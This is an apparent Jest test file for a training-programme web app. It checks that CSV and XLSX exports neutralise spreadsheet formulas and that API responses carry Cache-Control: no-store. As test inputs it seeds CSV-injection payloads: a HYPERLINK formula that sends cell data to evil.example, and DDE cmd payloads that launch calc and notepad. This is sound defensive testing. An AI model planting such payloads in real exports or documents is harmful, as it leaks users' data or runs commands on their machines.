import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { CompetencyFramework } from '@ccc/programme';
import { DEFAULT_FRAMEWORK_ID } from '../src/competencies/competency-framework.entity';
import { EvidenceFile } from '../src/competencies/evidence-file.entity';
import { TrainingPlanItem } from '../src/competencies/training-plan-item.entity';
import { Notification } from '../src/notifications/notification.entity';
import { Organisation } from '../src/organisations/organisation.entity';
import { ReleaseRequest } from '../src/release-time/release-request.entity';
import { PDF_BYTES } from './support/competencies';
import { inMonth, sessionOf, virtual } from './support/scheduling';
import { startTestApp, type TestApp } from './support/test-app';
import { createPerson, createWorld, postAs, tokenFor, type World, type WorldPerson } from './support/world';

/**
 * Security issue #14, items 3 and 4.
 *  - CSV exports (cohort report, national figures, framework) write no live spreadsheet formula: a text cell that
 *    starts with = + - @ tab or CR reads as text (OWASP), checked by reading the files back with csv-parse.
 *  - No answer of the API may be cached: every GET of the OpenAPI document, the file downloads and the errors carry
 *    `Cache-Control: no-store`.
 */

const FORMULA_START = /^[=+\-@\t\r]/;
const COHORT_NAME = `=HYPERLINK("http://evil.example/?d="&A1,"Open the report ${randomUUID().slice(0, 6)}")`;
const ALLIANCE_NAME = `@SUM(1+1)*cmd|' /C calc'!A0 ${randomUUID().slice(0, 6)}`;
const QUOTE = `+cmd|' /C notepad'!A0 ${randomUUID().slice(0, 6)}`;

/** Binary bodies (XLSX, PDF, ZIP) as a Buffer. */
function binary(res: unknown, callback: (error: Error | null, body: Buffer) => void): void {
  const stream = res as NodeJS.ReadableStream;
  const chunks: Buffer[] = [];
  stream.on('data', (chunk: Buffer) => chunks.push(chunk));
  stream.on('end', () => callback(null, Buffer.concat(chunks)));
}

const records = (text: string): string[][] =>
  parse(text, { bom: true, relax_column_count: true, skip_empty_lines: true });

/** Cells a spreadsheet would run: text starting with a formula character (a plain number is a number). */
const liveFormulas = (rows: string[][]) =>
  rows.flat().filter((cell) => FORMULA_START.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));

describe('exports: no spreadsheet formulas, and no answer cached', () => {
  let t: TestApp;
  let world: World;
  let admin: string;
  let cccA: string;
  let nationalViewer: WorldPerson;
  let ids: Record<string, string>;

  beforeAll(async () => {
    t = await startTestApp();
    world = await createWorld(t);
    await t.db.query('UPDATE cohort SET name = $1 WHERE id = $2', [COHORT_NAME, world.cohort.id]);
    await t.db.getRepository(Organisation).update(world.alliance.id, { name: ALLIANCE_NAME });
    admin = await tokenFor(t, world.people.admin);
    cccA = await tokenFor(t, world.people.cccA);
    const sup1 = await tokenFor(t, world.people.supervisor1);

    // A survey answer its author allowed to be quoted, starting with a formula character.
    const [{ ccc_id }] = await t.db.query('SELECT ccc_id FROM enrolment WHERE id = $1', [world.enrolments.A]);
    await t.db.query(
      `INSERT INTO evaluation_response (enrolment_id, person_id, respondent, status, likert, free_text, submitted_at)
       VALUES ($1, $2, 'ccc', 'submitted', '{}', $3, now())`,
      [world.enrolments.A, ccc_id, JSON.stringify({ 'most-valuable': { text: QUOTE, mayQuote: true } })],
    );

    // Rows behind every kind of id the OpenAPI document names: a booked session, a release request, an evidence
    // file, a training plan item, a notification.
    const session = await sessionOf(t, sup1, world.enrolments.A, 'm3-individual');
    await postAs(t, sup1, `/api/sessions/${session.id}/book`, {
      startsAt: inMonth(world, 3, 4),
      durationMinutes: 45,
      ...virtual,
      version: session.version,
    }).expect(200);
    await postAs(t, cccA, `/api/enrolments/${world.enrolments.A}/release-requests`, {
      kind: 'study',
      date: world.startDate,
      minutes: 60,
      description: 'Reading',
    }).expect(201);
    await t
      .http()
      .post(`/api/enrolments/${world.enrolments.A}/competencies/SCR-01/evidence/file`)
      .set('Authorization', cccA)
      .field('text', 'Uptake by practice')
      .attach('file', PDF_BYTES, { filename: 'uptake.pdf', contentType: 'application/pdf' })
      .expect(201);
    await postAs(t, cccA, `/api/enrolments/${world.enrolments.A}/training-plan-items`, {
      kind: 'free',
      title: 'Shadowing',
      targetMonth: 2,
      competencyCodes: [],
    }).expect(201);
    const notification = await t.db.getRepository(Notification).save({
      personId: world.people.admin.id,
      kind: 'session_tomorrow',
      subjectType: 'session',
      subjectId: session.id,
      occasion: randomUUID(),
      title: 'Your session is tomorrow',
      body: 'Individual supervision',
      link: null,
    } as Partial<Notification>);
    ids = {
      session: session.id,
      release: (await t.db.getRepository(ReleaseRequest).findOneByOrFail({ enrolmentId: world.enrolments.A })).id,
      evidenceFile: (await t.db.getRepository(EvidenceFile).findOneByOrFail({ uploadedById: world.people.cccA.id })).id,
      planItem: (await t.db.getRepository(TrainingPlanItem).findOneByOrFail({ enrolmentId: world.enrolments.A })).id,
      notification: notification.id,
    };

    const [nation] = await t.db.query(`INSERT INTO organisation (kind, name) VALUES ('nation', $1) RETURNING id`, [
      `NHS England ${randomUUID().slice(0, 8)}`,
    ]);
    nationalViewer = await createPerson(t.db, 'National Viewer', 'national_viewer', nation.id);
  }, 120_000);
  afterAll(() => t.close());

  const get = (token: string | null, url: string, asBinary = false) => {
    const req = t.http().get(url);
    if (token) req.set('Authorization', token);
    return asBinary ? req.buffer(true).parse(binary) : req;
  };
  const noStore = (res: { headers: Record<string, string> }) => expect(res.headers['cache-control']).toBe('no-store');

  describe('CSV injection (OWASP)', () => {
    it('the cohort report CSV shows the cohort name and a survey quote as text, not as formulas', async () => {
      const res = await get(admin, `/api/reports/cohort/export?cohortId=${world.cohort.id}&format=csv`).expect(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      const rows = records(res.text);
      // The long table: Table, Row, Row label, Column, Value.
      expect(rows.find((r) => r[2] === `'${COHORT_NAME}` && r[3] === 'Start date')?.[4]).toBe(world.startDate);
      expect(rows.some((r) => r[4] === `'${QUOTE}`)).toBe(true);
      expect(liveFormulas(rows)).toEqual([]);
      // Not vacuous: the raw text was in the report the CSV was made from.
      const report = (await get(admin, `/api/reports/cohort?cohortId=${world.cohort.id}`).expect(200)).body;
      expect(report.enrolment.cohorts[0].cohortName).toBe(COHORT_NAME);
      expect(report.quotes.map((q: { text: string }) => q.text)).toContain(QUOTE);
    });

    it('the cohort report XLSX keeps the name and the quote as text cells, never formulas', async () => {
      const res = await get(admin, `/api/reports/cohort/export?cohortId=${world.cohort.id}&format=xlsx`, true).expect(
        200,
      );
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(res.body as ExcelJS.Buffer);
      const cells: ExcelJS.Cell[] = [];
      for (const sheet of workbook.worksheets) sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
      expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula)).toEqual([]);
      const name = cells.find((c) => c.value === COHORT_NAME);
      const quote = cells.find((c) => c.value === QUOTE);
      expect(name?.type).toBe(ExcelJS.ValueType.String);
      expect(quote?.type).toBe(ExcelJS.ValueType.String);
    });

    it('the national CSV shows an Alliance name as text, not as a formula', async () => {
      const token = await tokenFor(t, nationalViewer);
      const res = await get(token, '/api/national/summary.csv').expect(200);
      const rows = records(res.text);
      expect(rows.filter((r) => r[2] === `'${ALLIANCE_NAME}`).length).toBeGreaterThan(0);
      expect(rows.some((r) => r.includes(ALLIANCE_NAME))).toBe(false);
      expect(liveFormulas(rows)).toEqual([]);
    });

    it('the framework CSV neutralises its text, and imports back to the same framework', async () => {
      const framework: CompetencyFramework = {
        key: `formula-${randomUUID().slice(0, 8)}`,
        name: '=1+1 framework',
        version: 1,
        scale: [
          { value: 1, label: 'Not yet', description: '' },
          { value: 2, label: 'Able', description: 'Does it without help' },
        ],
        domains: [
          {
            key: 'only',
            title: '@The only domain',
            description: '',
            competencies: [
              { code: 'F-1', title: '-Plans the day', description: '+Keeps a list', evidenceGuidance: 'A diary' },
            ],
          },
        ],
      };
      const upload = (text: string, filename: string) =>
        t
          .http()
          .post('/api/competency-frameworks/import')
          .set('Authorization', admin)
          .attach('file', Buffer.from(text, 'utf8'), filename);
      const imported = (await upload(JSON.stringify(framework), 'f.json').expect(201)).body;
      const res = await get(admin, `/api/competency-frameworks/${imported.framework.id}/export?format=csv`)
        .buffer(true)
        .expect(200);
      const rows = records(res.text);
      expect(rows[1]).toEqual(
        expect.arrayContaining(["'=1+1 framework", "'@The only domain", "'-Plans the day", "'+Keeps a list"]),
      );
      expect(liveFormulas(rows)).toEqual([]);
      const again = (await upload(res.text, 'f.csv').expect(201)).body;
      expect(again).toMatchObject({ created: false, framework: { id: imported.framework.id, version: 1 } });
      expect(again.framework.definition).toEqual(framework);
    });
  });

  describe('Cache-Control: no-store', () => {
    it('is on the answer to every GET of the OpenAPI document, called by an administrator', async () => {
      const doc: {
        paths: Record<
          string,
          Record<
            string,
            { parameters?: { name: string; in: string; required?: boolean; schema?: { enum?: string[] } }[] }
          >
        >;
      } = (await get(null, '/api/docs-json').expect(200)).body;
      const idFor = (name: string, path: string): string => {
        const before = path.split(`/{${name}}`)[0]!.split('/').pop()!;
        const byName: Record<string, string> = {
          cohortId: world.cohort.id,
          enrolmentId: world.enrolments.A,
          personId: world.people.cccA.id,
          allianceId: world.alliance.id,
          frameworkId: DEFAULT_FRAMEWORK_ID,
          templateId: world.template.id,
          sessionId: ids.session!,
          pcnId: world.pcn1.id,
          supervisorId: world.people.supervisor1.id,
          code: 'SCR-01',
          round: '1',
          key: 'exports-security-draft',
          format: 'csv',
          // A single sign-on provider nobody configured: the start redirects back to the sign-in page.
          slug: 'no-such-provider',
          // Credentials (answer links, invitations, calendar feeds): a token nobody holds.
          token: 'x'.repeat(43),
          file: `${'x'.repeat(43)}.ics`,
        };
        if (byName[name]) return byName[name]!;
        const bySegment: Record<string, string> = {
          cohorts: world.cohort.id,
          enrolments: world.enrolments.A,
          sessions: ids.session!,
          'release-requests': ids.release!,
          'evidence-files': ids.evidenceFile!,
          'training-plan-items': ids.planItem!,
          'competency-frameworks': DEFAULT_FRAMEWORK_ID,
          templates: world.template.id,
          people: world.people.cccA.id,
          notifications: ids.notification!,
        };
        if (name === 'id' && bySegment[before]) return bySegment[before]!;
        throw new Error(`No id for {${name}} in ${path}: add it to idFor`);
      };
      const problems: string[] = [];
      const statuses: number[] = [];
      for (const [path, methods] of Object.entries(doc.paths)) {
        const operation = methods['get'];
        if (!operation) continue;
        let url = path.replace(/\{([^}]+)\}/g, (_m, name: string) => idFor(name, path));
        const query = (operation.parameters ?? [])
          .filter((p) => p.in === 'query')
          .map((p) =>
            /Id$/.test(p.name)
              ? `${p.name}=${idFor(p.name, path)}`
              : p.schema?.enum?.length
                ? `${p.name}=${p.schema.enum[0]}`
                : p.required
                  ? `${p.name}=1`
                  : null,
          )
          .filter(Boolean);
        if (query.length) url += `?${query.join('&')}`;
        const res = await get(admin, url, true);
        statuses.push(res.status);
        if (res.headers['cache-control'] !== 'no-store')
          problems.push(`GET ${path} → ${res.status}, Cache-Control: ${res.headers['cache-control'] ?? '(none)'}`);
        if (res.status >= 500) problems.push(`GET ${path} → ${res.status}`);
      }
      expect(problems).toEqual([]);
      // Not vacuous: every GET route, most of them answered with the administrator's data.
      expect(statuses.length).toBeGreaterThanOrEqual(50);
      expect(statuses.filter((s) => s === 200).length).toBeGreaterThan(statuses.length / 2);
    }, 300_000);

    it('is on every file download: evidence, subject-access ZIP, record PDF, report exports, national, .ics', async () => {
      const downloads: [string, string, string][] = [
        [cccA, `/api/evidence-files/${ids.evidenceFile}`, 'application/pdf'],
        [admin, `/api/people/${world.people.cccA.id}/subject-access-export`, 'application/zip'],
        [cccA, `/api/enrolments/${world.enrolments.A}/record.pdf`, 'application/pdf'],
        [admin, `/api/reports/cohort/export?cohortId=${world.cohort.id}&format=csv`, 'text/csv'],
        [admin, `/api/reports/cohort/export?cohortId=${world.cohort.id}&format=xlsx`, 'spreadsheetml'],
        [admin, `/api/reports/cohort/export?cohortId=${world.cohort.id}&format=pdf`, 'application/pdf'],
        [admin, `/api/competency-frameworks/${DEFAULT_FRAMEWORK_ID}/export?format=csv`, 'text/csv'],
        [cccA, `/api/sessions/${ids.session}/calendar.ics`, 'text/calendar'],
        [cccA, `/api/enrolments/${world.enrolments.A}/timeline`, 'application/json'],
      ];
      const national = await tokenFor(t, nationalViewer);
      downloads.push([national, '/api/national/summary', 'application/json']);
      downloads.push([national, '/api/national/summary.csv', 'text/csv']);
      for (const [token, url, type] of downloads) {
        const res = await get(token, url, true);
        expect([url, res.status]).toEqual([url, 200]);
        expect(res.headers['content-type']).toContain(type);
        expect([url, res.headers['cache-control']]).toEqual([url, 'no-store']);
      }
    });

    it('is on the calendar feed a token opens, and on the open and the error answers', async () => {
      const feed = await postAs(t, cccA, '/api/calendar-feed').expect(201);
      const res = await get(null, new URL(feed.body.url).pathname).expect(200);
      expect(res.headers['content-type']).toContain('text/calendar');
      noStore(res);
      noStore(await get(null, `/api/privacy-notices/${world.alliance.id}`).expect(200));
      noStore(await get(null, `/api/enrolments/${world.enrolments.A}/timeline`).expect(401));
      noStore(await get(cccA, '/api/national/summary.csv').expect(403));
      noStore(await get(admin, `/api/evidence-files/${randomUUID()}`).expect(404));
      noStore(await get(admin, '/api/evidence-files/not-an-id').expect(400));
      noStore(await get(admin, '/api/no-such-route').expect(404));
      noStore(await get(null, `/api/calendar/${'y'.repeat(43)}.ics`).expect(404));
    });
  });
});
